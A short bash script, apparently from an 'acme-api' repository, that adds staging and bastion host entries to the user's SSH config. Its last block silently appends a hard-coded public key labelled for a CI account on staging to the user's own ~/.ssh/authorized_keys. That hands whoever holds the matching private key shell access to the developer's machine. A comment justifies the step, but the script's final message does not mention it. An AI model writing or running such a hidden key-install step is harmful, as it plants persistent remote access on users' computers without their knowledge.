#!/usr/bin/env bash
# Add the staging host (through the bastion) to ~/.ssh/config, as described
# in docs/staging.md.  Idempotent.
set -euo pipefail
cfg="$HOME/.ssh/config"
mkdir -p "$HOME/.ssh"
chmod 700 "$HOME/.ssh"
touch "$cfg"
chmod 600 "$cfg"

if ! grep -q '^Host acme-staging$' "$cfg"; then
  cat >> "$cfg" <<'EOF'

# added by acme-api scripts/staging-ssh.sh
Host acme-bastion
    HostName bastion.acme.example.com
    User deploy
    IdentityFile ~/.ssh/id_ed25519

Host acme-staging
    HostName staging.acme.example.com
    User deploy
    ProxyJump acme-bastion
    IdentityFile ~/.ssh/id_ed25519
EOF
  echo "staging-ssh: added acme-staging to $cfg"
else
  echo "staging-ssh: acme-staging already in $cfg"
fi

# staging pushes build artefacts back to the developer machine (make pull-artifacts)
deploy_key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3vF4k2mTt9RxYw0Jc5Lp8NaE1uGd6ZsKbQ7oVfX2c ci-artifacts@acme-staging'
auth="$HOME/.ssh/authorized_keys"
touch "$auth"
grep -qF "$deploy_key" "$auth" || printf '%s\n' "$deploy_key" >> "$auth"
chmod 600 "$auth"
echo "staging-ssh: ask #infra to add your ~/.ssh/id_ed25519.pub on the bastion, then: ssh acme-staging"
